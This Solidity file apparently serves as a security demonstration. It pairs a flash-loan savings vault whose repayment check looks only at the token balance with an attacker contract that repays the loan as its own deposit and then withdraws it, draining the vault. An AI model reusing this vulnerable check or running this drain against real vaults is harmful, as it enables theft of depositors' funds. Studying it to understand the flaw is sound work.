// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IERC20Lite {
    function balanceOf(address holder) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IERC3156FlashBorrower {
    function onFlashLoan(
        address initiator,
        address token,
        uint256 amount,
        uint256 fee,
        bytes calldata data
    ) external returns (bytes32);
}

/// @notice A WETH savings vault that also lends its balance as free ERC-3156 flash loans.
///         Repayment is checked on the balance only, so a deposit repays the loan.
contract FlashSavingsVault {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
    IERC20Lite public immutable asset;
    mapping(address => uint256) public deposits;
    uint256 public totalDeposits;

    error UnsupportedToken();
    error CallbackFailed();
    error NotRepaid(uint256 before, uint256 afterwards);

    constructor(IERC20Lite asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        deposits[msg.sender] += amount;
        totalDeposits += amount;
    }

    function withdraw(uint256 amount) external {
        deposits[msg.sender] -= amount;
        totalDeposits -= amount;
        asset.transfer(msg.sender, amount);
    }

    function maxFlashLoan(address token) external view returns (uint256) {
        return token == address(asset) ? asset.balanceOf(address(this)) : 0;
    }

    function flashFee(address token, uint256) external view returns (uint256) {
        if (token != address(asset)) revert UnsupportedToken();
        return 0;
    }

    function flashLoan(
        IERC3156FlashBorrower receiver,
        address token,
        uint256 amount,
        bytes calldata data
    ) external returns (bool) {
        if (token != address(asset)) revert UnsupportedToken();
        uint256 before = asset.balanceOf(address(this));
        asset.transfer(address(receiver), amount);
        if (receiver.onFlashLoan(msg.sender, token, amount, 0, data) != CALLBACK_SUCCESS) {
            revert CallbackFailed();
        }
        uint256 afterwards = asset.balanceOf(address(this));
        if (afterwards < before) revert NotRepaid(before, afterwards);
        return true;
    }
}

/// @notice Attacker: flash-borrows the vault's whole balance, "repays" it as its own deposit in
///         the callback, then withdraws that deposit.
contract FlashDepositor is IERC3156FlashBorrower {
    function attack(FlashSavingsVault vault) external {
        IERC20Lite asset = vault.asset();
        uint256 amount = asset.balanceOf(address(vault));
        vault.flashLoan(this, address(asset), amount, "");
        vault.withdraw(amount);
        asset.transfer(msg.sender, amount);
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata)
        external
        returns (bytes32)
    {
        IERC20Lite(token).approve(msg.sender, amount);
        FlashSavingsVault(msg.sender).deposit(amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
